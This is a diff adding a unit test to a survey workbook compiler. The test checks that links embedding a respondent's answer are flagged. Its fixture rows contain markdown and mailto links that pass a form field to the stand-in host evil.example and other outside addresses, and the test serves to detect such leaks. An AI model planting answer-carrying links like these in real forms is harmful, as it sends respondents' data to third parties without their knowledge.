@@ -36,6 +36,23 @@ describe('names in the texts of a workbook', () => {
     expect(course!.items[0]).toMatchObject({ choices: [{ title: { en: '${person.name}' } }, { title: { en: 'Nobody but ${nobody}' } }] });
   });
 
+  test('in the address of a link are reported, because the link sends the answer to another server', () => {
+    const survey = `
+| type | name | label | hint |
+| text | name | Name | |
+| note | a | [map](https://evil.example/?n=\${name}) | |
+| note | b | [plain](https://evil.example/) of \${name} | <a href="mailto:a@b.example?body=\${name}">write</a> |
+| note | c | [call](tel:\${name}) | |
+| select_one l | d | D | |`;
+    const choices = '| list_name | name | label |\n| l | x | **X** [x](https://x.example/\${name}) |';
+    const { diagnostics } = compileWorkbook(workbookOf({ survey, choices, settings: '| form_title |\n| F |' }));
+    expect(diagnostics.map(({ severity, code, sheet, cell, params }) => [severity, code, `${sheet}!${cell}`, params['to'], params['path']])).toEqual([
+      ['note', 'design.link_sends_answer', 'survey!C3', 'evil.example', 'main.name'],
+      ['note', 'design.link_sends_answer', 'survey!D4', 'a@b.example', 'main.name'],
+      ['note', 'design.link_sends_answer', 'choices!C2', 'x.example', 'main.name'],
+    ]);
+  });
+
   test('that nothing has stay as they are, with a finding in their cell and a name that is close', () => {
     const { diagnostics } = compiled();
     const found = diagnostics.filter(({ code }) => code === 'design.text_unknown_item').map(({ severity, sheet, cell, params }) => [severity, sheet, cell, params['path'], params['suggestion']]);
